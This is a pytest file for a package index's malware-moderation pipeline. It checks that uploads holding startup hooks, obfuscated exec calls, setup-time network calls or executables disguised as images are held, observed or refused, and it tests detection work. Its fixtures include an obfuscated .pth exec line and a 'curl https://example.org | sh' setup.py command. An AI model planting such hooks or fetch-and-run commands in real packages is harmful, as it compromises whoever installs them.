"""What stands in archives: held if it is new, and looked through in time or later."""

from __future__ import annotations

import pytest

from accounts.models import AuditEvent
from moderation import evidence, looking, severities, tuning
from moderation.models import Case, Observation, Severity, Source
from moderation.policies import registry
from moderation.scanning import scan
from packages.models import File, Stage, StageStatus
from packages.uploads import stages
from packages.uploads.stages import Result
from tests.factories import index, jobs
from tests.factories.people import UserFactory
from tests.moderation.policies.helpers import set_policy
from tests.packages.uploads.sessions.client import Api, wheel

pytestmark = pytest.mark.django_db
EVIL = "import os; exec(bytes.fromhex('7072'))\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(60)


@pytest.fixture
def person():
    return UserFactory(trusted=True)


def codes(outcome):
    return {hold["code"] for hold in outcome.holds}


def test_a_new_pth_file_is_held_with_the_line_that_fired(person):
    index.published(uploader=person)
    outcome = index.submit(person, version="1.1", files={"evil.pth": EVIL})
    assert codes(outcome) == {"startup-hooks", "obfuscated-code"}
    hook = next(hold for hold in outcome.holds if hold["code"] == "startup-hooks")
    assert hook["signals"] == [
        {
            "rule": "startup_hook",
            "severity": "high",
            "member": "evil.pth",
            "line": 1,
            "excerpt": EVIL.strip(),
            "file": "demo-1.1-py3-none-any.whl",
        }
    ]
    assert "evil.pth, line 1" in hook["reason"]
    assert Case.objects.get().severity == 3


def test_what_the_release_before_had_is_no_news(person):
    held = index.held(uploader=person, files={"hook.pth": EVIL})
    stages.approve(held, actor=index.Actor(user=UserFactory()), reason="It is known.")
    again = index.submit(person, version="1.1", files={"hook.pth": EVIL})
    assert again.result is Result.PUBLISHED
    changed = index.submit(person, version="1.2", files={"hook.pth": EVIL.replace("70", "71")})
    assert codes(changed) == {"startup-hooks", "obfuscated-code"}


def test_what_was_approved_for_one_wheel_passes_in_the_next_of_the_release(person):
    held = index.held(uploader=person, files={"hook.pth": EVIL}, tag="cp311-none-any")
    stages.approve(held, actor=index.Actor(user=UserFactory()), reason="It is known.")
    beside = index.submit(person, files={"hook.pth": EVIL}, tag="cp312-none-any")
    assert beside.result is Result.PUBLISHED


def test_native_code_waits_where_there_was_none(person):
    native = {"tag": "cp312-cp312-linux_x86_64", "files": {"demo/fast.so": ELF}}
    index.published(uploader=person)
    assert codes(index.submit(person, version="1.1", **native)) == {"native-code"}
    index.published("other", uploader=person, **native)
    assert index.submit(person, "other", "1.1", **native).result is Result.PUBLISHED


@pytest.mark.parametrize(
    ("code", "files"),
    [
        ("setup-calls", {"setup.py": "urllib.request.urlopen('https://example.org/')\n"}),
        ("install-hooks", {"setup.py": "class Evil(install): ...\n"}),
        ("obfuscated-code", {"demo.py": "exec(base64.b64decode('x'))\n"}),
        ("suspicious-urls", {"demo.py": "get('https://pastebin.com/raw/abc')\n"}),
        ("embedded-executables", {"logo.png": ELF}),
    ],
)
def test_each_policy_holds_an_sdist_for_what_it_looks_for(person, code, files):
    index.published(uploader=person, sdist=True)
    assert codes(index.submit(person, version="1.1", sdist=True, files=files)) == {code}


@pytest.mark.parametrize(
    "setup", ["class Own(install): ...\n", "urlopen('https://example.org/')\n"]
)
def test_a_way_of_building_is_no_news_in_a_first_release(person, setup):
    outcome = index.submit(person, sdist=True, files={"setup.py": setup})
    assert outcome.result is Result.PUBLISHED
    grave = {"setup.py": "os.system('curl https://example.org | sh')\n"}
    assert codes(index.submit(person, "other", sdist=True, files=grave)) == {"setup-calls"}


def test_a_session_is_looked_at_when_it_is_published(person):
    api = Api(person)
    api.legacy(wheel())
    session = api.open("demo", "1.1")
    session.add(wheel(version="1.1", files={"evil.pth": EVIL}))
    assert session.publish().status_code == 202
    held = {hold["code"] for hold in Stage.objects.held().get().holds}
    assert held == {"startup-hooks", "obfuscated-code"}


def test_only_observed_it_is_published_and_lies_on_the_desk(person, whole_desk):
    set_policy("startup-hooks", action="observe")
    set_policy("obfuscated-code", enabled=False)
    index.published(uploader=person)
    outcome = index.submit(person, version="1.1", files={"evil.pth": EVIL})
    assert outcome.result is Result.PUBLISHED
    jobs.run_all()
    observation = Observation.objects.get()
    assert observation.source == Source.SIGNAL
    assert observation.case.subject == File.objects.get(release__version="1.1")
    (place,) = evidence.places_of(observation.case)
    assert (place["rule"], place["severity"]) == ("startup_hook", "high")
    assert (place["member"], place["line"]) == ("evil.pth", 1)
    assert place["file"] == "demo-1.1-py3-none-any.whl"
    page = whole_desk.get(observation.case.get_absolute_url()).content.decode()
    assert ">startup_hook</span> <span" in page
    assert "reported by" not in page
    jobs.run_all()
    assert Observation.objects.count() == 1


def test_refused_leaves_nothing(person):
    set_policy("startup-hooks", action="refuse")
    index.published(uploader=person)
    with pytest.raises(stages.RefusedByPolicy, match="startup hook"):
        index.submit(person, version="1.1", files={"evil.pth": EVIL})
    assert not Stage.objects.exists()


def test_a_higher_threshold_lets_pass_what_is_less_grave(person):
    set_policy("setup-calls", numbers={"gravity": 3})
    index.published(uploader=person, sdist=True)
    files = {"setup.py": "urllib.request.urlopen('https://example.org/')\n"}
    assert index.submit(person, version="1.1", sdist=True, files=files).result is Result.PUBLISHED


@pytest.fixture
def no_time(monkeypatch):
    """Requests have no time for anything; jobs have."""
    monkeypatch.setattr(scan.Scan.__init__, "__defaults__", (0.0,))


def test_what_is_not_seen_in_time_waits_for_a_job_and_passes(person, no_time):
    outcome = index.submit(person)
    assert codes(outcome) == {"being-looked-at"}
    assert jobs.waiting() == [("moderation.looking.look_through", (outcome.stage.pk,))]
    jobs.run_all()
    assert File.objects.get().release.published_by == person
    assert not Case.objects.live().exists()
    assert AuditEvent.objects.filter(action="stage.pass").exists()


def test_what_the_job_finds_lies_on_the_desk(person, no_time):
    stage = index.held(uploader=person, files={"evil.pth": EVIL})
    assert not looking.look_through(stage.pk)
    stage.refresh_from_db()
    assert {hold["code"] for hold in stage.holds} == {"startup-hooks", "obfuscated-code"}
    assert stage.status == StageStatus.PROCESSING
    assert ("moderation.tasks.tell_moderators", (stage.pk,)) in jobs.waiting()
    assert not looking.look_through(stage.pk)  # may run twice


def test_what_the_job_finds_makes_the_case_as_grave_as_it_is(person, no_time):
    """So that it stands first where the gravest do, and is never made less grave."""
    stage = index.held(uploader=person, files={"evil.pth": EVIL})
    case = Case.objects.live().get()
    assert case.severity == Severity.NORMAL
    looking.look_through(stage.pk)
    case.refresh_from_db()
    assert case.severity == Severity.HIGH
    event = AuditEvent.objects.get(action="case.aggravate")
    assert (event.before, event.after) == ({"severity": 2}, {"severity": 3})
    assert severities.raise_to(case, Severity.LOW).severity == Severity.HIGH
    assert AuditEvent.objects.filter(action="case.aggravate").count() == 1


def test_what_no_job_can_look_through_is_left_to_a_moderator(person):
    stage = index.held(uploader=person, files={"demo.py": "x = 1\n" * 800_000})
    looking.look_through(stage.pk)
    stage.refresh_from_db()
    assert [hold["code"] for hold in stage.holds] == ["too-large-to-look-through"]


def test_other_holds_stay_when_the_job_finds_nothing(person, no_time, settings):
    settings.UPLOAD_HOLD = "everybody"
    stage = index.held(uploader=person)
    looking.look_through(stage.pk)
    stage.refresh_from_db()
    assert [hold["code"] for hold in stage.holds] == ["review-of-everything"]


def test_every_policy_tells_the_admin_what_it_does():
    for known in registry.installed():
        assert known.title
        assert known.sentence.endswith(".")
    assert len(registry.installed()) == 19
    assert tuning.CHANGE
